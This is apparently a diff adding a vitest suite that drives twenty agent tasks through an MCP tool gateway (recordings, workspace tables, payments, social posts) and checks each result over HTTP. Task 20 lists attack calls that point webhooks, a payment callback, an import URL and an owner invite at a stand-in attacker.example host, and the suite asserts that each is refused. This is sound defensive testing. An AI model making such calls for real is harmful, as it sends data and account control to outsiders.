@@ -1,0 +1,356 @@
+import { afterEach, beforeEach, expect, it, vi } from 'vitest'
+import { AGENT_TASKS, type TaskFigures } from '../../scripts/support/agent-tasks.ts'
+import { json } from '../support/gateway.ts'
+import { SESSION } from '../surfaces/mcp/account-headers.ts'
+import { PAID_BILL } from '../upstreams/payment/index.ts'
+import { recording, transcript } from '../upstreams/recorder/index.ts'
+import { VIDEO_IDS } from '../upstreams/video/ids.ts'
+import { EMAILS, NOTION_SESSIONS, USERS, WORKSPACES } from '../upstreams/workspace/index.ts'
+import { HEADERS, type Model, setTable } from './stage.ts'
+
+/**
+ * The twenty tasks of an agent's day, each through MCP with the official client, and its result checked over HTTP.
+ * `npm run agent-tasks` prints their figures.
+ */
+
+type Table = ReturnType<typeof setTable>
+
+// biome-ignore lint/suspicious/noExplicitAny: a script looks into any answer and fails on what is not there
+type Read = any
+
+beforeEach(() => {
+  // Ids are part of the answers, so that their tokens would differ each time.
+  let made = 0
+  vi.spyOn(crypto, 'randomUUID').mockImplementation(() => `5f0c2a9b-1d34-4477-8000-${String(++made).padStart(12, '0')}`)
+})
+afterEach(() => void vi.restoreAllMocks())
+
+const figures: Record<string, TaskFigures[string]> = {}
+
+/** Plays a task, and stores what it took. */
+function task(number: number, play: (table: Table) => Promise<Model>, set: () => Table = setTable) {
+  it(`${number}. ${AGENT_TASKS[number - 1]?.title}`, async () => {
+    const table = set()
+    const model = await play(table)
+    figures[number] = model.spent()
+    table.expectNothingUnexpected()
+  })
+}
+
+/** A request over HTTP, with the same accounts. */
+const http = async ({ gateway }: Table, line: string, body?: object): Promise<{ status: number; body: Read }> => {
+  const [method = 'GET', path = ''] = line.split(' ')
+  const init = body ? json(method, body) : { method }
+  const headers = new Headers(init.headers)
+  for (const [name, value] of Object.entries(HEADERS)) headers.set(name, value)
+  const answer = await gateway.call(path, { ...init, headers })
+  return { status: answer.status, body: answer.json }
+}
+
+const findTable = async (model: Model, query: string): Promise<string> =>
+  (await model.call('workspace_search', { query, type: 'data_source' })).results[0].id
+
+const rowsOf = async (table: Table, id: string): Promise<Read[]> =>
+  (await http(table, `POST /api/v2/workspace/data-source/${id}/query`, {})).body.results
+
+task(1, async (table) => {
+  const model = await table.talk()
+  const { files } = await model.call('recorder_search', { query: '제품 회의' })
+  await model.call('recorder_get_summary', { id: files[0].id })
+  const data_source_id = await findTable(model, 'Tasks')
+  await model.call('workspace_get_schema', { data_source_id })
+  const records = [{ Name: '알림 설정 초안', Due: '2026-11-27', State: 'Open' }]
+  await model.call('workspace_insert_records', { data_source_id, records })
+  const names = (await rowsOf(table, data_source_id)).map((row) => row.simple_properties.Name)
+  expect(names).toContain('알림 설정 초안')
+  return model
+})
+
+task(2, async (table) => {
+  const model = await table.talk()
+  const { data_file_list: files } = await model.call('recorder_list_files', { limit: 1 })
+  const [{ id }] = files
+  await model.call('recorder_transcribe_file_and_wait', { id })
+  const { text } = await model.call('recorder_get_transcript', { id, format: 'srt' })
+  const { body } = await http(table, `GET /api/v1/recorder/files/${id}/transcript?format=srt`)
+  expect(text).toBe(body.text)
+  return model
+})
+
+task(3, async (table) => {
+  const model = await table.talk()
+  const { files } = await model.call('recorder_search', { query: '알림 설정' })
+  const [{ id }] = files
+  const { text: passage } = await model.call('recorder_get_transcript', { id, around: '알림 설정' })
+  const said = passage.split('\n').find((line: string) => line.includes('알림 설정'))
+  expect(said).toMatch(/^\[00:00:10\] 민아: /)
+  const { body } = await http(table, `GET /api/v1/recorder/files/${id}/transcript?format=text`)
+  expect(body.text).toContain(said)
+  return model
+})
+
+task(4, async (table) => {
+  const model = await table.talk()
+  const window = { from: '2026-10-01', to: '2026-10-31', group_by: 'day_product' }
+  const { result } = await model.call('shop_list_sales', window)
+  const { body } = await http(table, `GET /api/v1/shop/sales?${new URLSearchParams(window)}`)
+  expect(result.rows.length).toBeGreaterThan(0)
+  expect(result).toEqual(body.result)
+  return model
+})
+
+task(5, async (table) => {
+  const model = await table.talk()
+  const bill = {
+    ...{
+      product_nm: '11월 수강료',
+      member_nm: '홍길동',
+      phone: '010-1234-5678',
+      price: 33_000,
+      expire_dt: '2026-12-31',
+    },
+    idempotency_key: 'november-hong',
+  }
+  const { result } = await model.call('payment_request_bill', bill)
+  const { bill_id } = result
+  expect((await model.call('payment_request_bill', bill)).result.bill_id).toBe(bill_id)
+  expect((await model.call('payment_read_bill', { bill_id })).result.appr_state).toBe('W')
+  await model.call('payment_destroy_bill', { bill_id, price: 33_000, idempotency_key: 'destroy-hong' })
+  const { body } = await http(table, 'POST /api/v1/payment/read', { bill_id })
+  expect(body.result.appr_state).toBe('D')
+  return model
+})
+
+task(6, async (table) => {
+  const model = await table.talk()
+  const { result } = await model.call('payment_read_bill', { bill_id: PAID_BILL })
+  const price = Number(result.appr_price)
+  await model.call('payment_cancel_bill', { bill_id: PAID_BILL, price, idempotency_key: 'cancel-1' })
+  const { body } = await http(table, 'POST /api/v1/payment/read', { bill_id: PAID_BILL })
+  expect(body.result.appr_state).toBe('C')
+  return model
+})
+
+task(7, async (table) => {
+  const model = await table.talk()
+  const video_url = `https://www.youtube.com/watch?v=${VIDEO_IDS.manual}`
+  const { content } = await model.call('video_get_transcript', { video_url, lang: ['ko'], format: 'text' })
+  const { body } = await http(table, 'POST /api/v1/video/transcript/v2', { video_url, lang: ['ko'], format: 'text' })
+  expect(content).toBe(body.content)
+  return model
+})
+
+task(8, async (table) => {
+  const model = await table.talk('?tools=all')
+  const { post } = await model.call('social_create_post', {
+    text: '가을 카탈로그가 나왔습니다',
+    idempotency_key: 'autumn',
+  })
+  await model.call('social_get_post_insights', { id: post.id })
+  await model.call('social_delete_post', { id: post.id })
+  expect((await http(table, `GET /api/v1/social/posts/${post.id}`)).status).toBe(404)
+  return model
+})
+
+task(9, async (table) => {
+  const model = await table.talk('?tools=all')
+  const { results } = await model.call('workspace_search', { query: 'Brand renewal', type: 'page' })
+  const page_id = results[0].id
+  const { markdown } = await model.call('workspace_get_page_markdown', { page_id })
+  const [first = ''] = markdown.split('\n').filter((line: string) => /\w/.test(line))
+  const changed = markdown.replace(first, '첫 문장을 바꿨습니다.')
+  await model.call('workspace_replace_page_markdown', { page_id, markdown: changed })
+  await model.call('workspace_update_page', { page_id, in_trash: true })
+  await model.call('workspace_update_page', { page_id, in_trash: false })
+  const { body } = await http(table, `GET /api/v2/workspace/pages/${page_id}/markdown`)
+  expect(body.markdown).toContain('첫 문장을 바꿨습니다.')
+  return model
+})
+
+task(10, async (table) => {
+  const model = await table.talk('?tools=all')
+  const { data_file_list: files } = await model.call('recorder_list_files', { limit: 4 })
+  for (const { id, filename, start_time } of files) {
+    const name = `${start_time.slice(0, 10)} ${filename}`
+    await model.call('recorder_rename_file', { id, filename: name })
+    const { body } = await http(table, 'GET /api/v1/recorder/files?limit=30')
+    expect(body.data_file_list).toContainEqual(expect.objectContaining({ id, filename: name }))
+  }
+  // In UTC it is the day before.
+  expect(files.map(({ filename, start_time }: Read) => `${start_time.slice(0, 10)} ${filename}`)).toContain(
+    '2026-11-21 아침 메모',
+  )
+  return model
+})
+
+task(11, async (table) => {
+  const model = await table.talk()
+  const day = { createdAtFrom: '2026-11-20', createdAtTo: '2026-11-20' }
+  const { result: sheets } = await model.call('shop_list_order_sheets', day)
+  const data_source_id = await findTable(model, 'Tasks')
+  const before = (await rowsOf(table, data_source_id)).length
+  const orders = new Set<string>(sheets.map(({ orderId }: Read) => String(orderId)))
+  const records = [...orders].map((Name) => ({ Name, State: 'Open' }))
+  const upsert = () => model.call('workspace_upsert_records', { data_source_id, key: 'Name', records })
+  expect(await upsert()).toMatchObject({ created: orders.size, updated: 0, unchanged: 0 })
+  expect(await upsert()).toMatchObject({ created: 0, updated: 0, unchanged: orders.size })
+  expect(await rowsOf(table, data_source_id)).toHaveLength(before + orders.size)
+  return model
+})
+
+task(12, async (table) => {
+  const model = await table.talk()
+  const { results } = await model.call('gateway_search', { query: '금요일 알림', groups: ['recorder', 'notes'] })
+  const query = new URLSearchParams({ query: '금요일 알림', groups: 'recorder,notes' })
+  const { body } = await http(table, `GET /api/v1/search?${query}`)
+  expect(results.map(({ id }: Read) => id)).toEqual(body.results.map(({ id }: Read) => id))
+  expect(results[0]).toMatchObject({ title: '주간 제품 회의' })
+  return model
+})
+
+task(13, async (table) => {
+  const session = {
+    ...{ 'X-Workspace-Token': NOTION_SESSIONS.owner, 'X-Workspace-Space-ID': WORKSPACES.haneul },
+    'X-Workspace-User-ID': USERS.jiwoo,
+  }
+  expect(Object.keys(session).sort()).toEqual(Object.keys(SESSION).sort())
+  const model = await table.talk('?tools=all&groups=workspace', session)
+  await model.call('workspace_invite_member', { email: EMAILS.outsider })
+  expect(table.notion.state.invites).toHaveLength(1)
+  return model
+})
+
+task(14, async (table) => {
+  const model = await table.talk()
+  const { accounts } = await model.call('gateway_doctor')
+  const { body } = await http(table, 'GET /api/v1/doctor')
+  const stateOf = ({ account, state }: Read) => [account, state]
+  expect(accounts.map(stateOf)).toEqual(body.accounts.map(stateOf))
+  return model
+})
+
+task(15, async (table) => {
+  const model = await table.talk('?groups=events&tools=all')
+  const { events } = await model.call('events_list_events')
+  const { body } = await http(table, 'GET /api/v1/events')
+  expect(events.map(({ id }: Read) => id)).toEqual(body.events.map(({ id }: Read) => id))
+  return model
+})
+
+task(16, async (table) => {
+  const model = await table.talk()
+  expect(await model.wrong('recorder_list_files', { folder: '회의' })).toMatch(/unknown argument .{1,2}folder.*tag_id/)
+  expect(await model.wrong('recorder_get_summary', { id: 'nope' })).toMatch(/recorder_search/)
+  const { files } = await model.call('recorder_search', { query: '제품 회의' })
+  const { markdown } = await model.call('recorder_get_summary', { id: files[0].id })
+  const data_source_id = await findTable(model, 'Tasks')
+  const filter = { property: 'State', status: { equals: 'Open' } }
+  expect(await model.wrong('workspace_query_data_source', { data_source_id, filter })).toMatch(
+    /did you mean .{1,2}filters/,
+  )
+  const filters = [{ key: 'State', value: 'Open' }]
+  const { results } = await model.call('workspace_query_data_source', { data_source_id, filters })
+  const { body } = await http(table, `POST /api/v2/workspace/data-source/${data_source_id}/query`, { filters })
+  expect(results).toHaveLength(body.results.length)
+  // The tool returns no signed links.
+  const { body: summary } = await http(table, `GET /api/v1/recorder/files/${files[0].id}/summary`)
+  expect(summary.markdown.replace(/\]\([^)]*\)/g, '')).toBe(markdown.replace(/\]\([^)]*\)/g, ''))
+  return model
+})
+
+task(
+  17,
+  async (table) => {
+    const model = await table.talk()
+    const failure = await model.fail('social_list_posts')
+    expect(failure).toContain('tell the person to reconnect the Threads account at https://latchkey.test/')
+    expect((await http(table, 'GET /api/v1/social/posts')).status).toBe(401)
+    return model
+  },
+  () => setTable({ SOCIAL_TOKEN: 'THtest-ended' }),
+)
+
+/** A meeting of six hours in Korean. One sentence of it is about the budget. */
+const MEETING = recording({
+  filename: '연간 계획 회의',
+  start_time: Date.parse('2026-11-20T01:00:00Z'),
+  duration: 21_600_000,
+  transcript: transcript(
+    Array.from({ length: 7200 }, (_, n) => ({
+      start_time: n * 3000,
+      end_time: n * 3000 + 2900,
+      speaker: ['김민수', '이서연', '박준호'][n % 3] ?? '',
+      original_speaker: `Speaker ${n % 3}`,
+      content: n === 7000 ? '예산은 재무팀이 금요일까지 확인합니다' : `${n}번째로 일정과 출시 순서를 이야기합니다`,
+    })),
+  ),
+})
+
+task(
+  18,
+  async (table) => {
+    const model = await table.talk()
+    const { files } = await model.call('recorder_search', { query: '예산' })
+    const [{ id, hits }] = files
+    expect(hits[0]).toMatchObject({ start_time: '05:50:00' })
+    const { text } = await model.call('recorder_get_transcript', { id, around: '예산' })
+    expect(text).toContain('[05:50:00] 이서연: 예산은 재무팀이 금요일까지 확인합니다')
+    const { body } = await http(table, `GET /api/v1/recorder/files/${id}/transcript?format=text`)
+    expect(body.text).toContain(text.trim().split('\n').at(-1))
+    return model
+  },
+  () => setTable({}, [MEETING]),
+)
+
+it(`19. ${AGENT_TASKS[18]?.title}`, async () => {
+  const table = setTable()
+  const model = await table.talk()
+  const data_source_id = await findTable(model, 'Tasks')
+  const { size } = table.payssam.state.bills
+  const rows = (await rowsOf(table, data_source_id)).length
+  const bill = {
+    ...{ product_nm: '수강료', member_nm: '홍길동', phone: '010-1234-5678', price: 33_000, expire_dt: '2026-12-31' },
+    idempotency_key: 'same',
+  }
+  const records = [{ Name: 'Only one', State: 'Open' }]
+  const settled = await Promise.allSettled([
+    ...Array.from({ length: 10 }, () => model.call('payment_request_bill', bill)),
+    ...Array.from({ length: 5 }, () =>
+      model.call('workspace_upsert_records', { data_source_id, key: 'Name', records }),
+    ),
+  ])
+  expect(settled.slice(10).map(({ status }) => status)).toEqual(Array(5).fill('fulfilled'))
+  expect(settled.some(({ status }, at) => at < 10 && status === 'fulfilled')).toBe(true)
+  expect(table.payssam.state.bills.size).toBe(size + 1)
+  expect(await rowsOf(table, data_source_id)).toHaveLength(rows + 1)
+  // How many of the bills are replayed depends on the order of answers.
+  figures[19] = { calls: model.spent().calls, tokens: null }
+})
+
+task(20, async (table) => {
+  const model = await table.talk()
+  const subscriptions = async () => (await http(table, 'GET /api/v1/events/subscriptions')).body.subscriptions
+  const before = await subscriptions()
+  const bill = { product_nm: 'a', member_nm: '홍길동', phone: '010-1234-5678', price: 1000, idempotency_key: 'a' }
+  const attacks: [string, Record<string, unknown>, RegExp][] = [
+    ['notes_create_webhook', { url: 'https://attacker.example/hook' }, /Unknown tool/],
+    ['notes_create_api_key', {}, /Unknown tool/],
+    ['events_create_subscription', { url: 'https://attacker.example/hook' }, /Unknown tool/],
+    [
+      'payment_request_bill',
+      { ...bill, callback_url: 'https://attacker.example' },
+      /callback_url: no tool may set this/,
+    ],
+    ['workspace_invite_member', { email: 'a@attacker.example', role: 'owner' }, /cannot be called here/],
+    ['workspace_import_file', { url: 'https://attacker.example/?secret' }, /cannot be called here/],
+    ['social_delete_post', { id: '17910000000001296' }, /cannot be called here/],
+  ]
+  for (const [name, args, refusal] of attacks) expect(await model.wrong(name, args)).toMatch(refusal)
+  expect(await subscriptions()).toEqual(before)
+  expect((await http(table, 'GET /api/v1/social/posts/17910000000001296')).status).toBe(200)
+  return model
+})
+
+it('the figures are those of the table', async () => {
+  await expect(`${JSON.stringify(figures, null, 2)}\n`).toMatchFileSnapshot('./twenty.expected.json')
+})
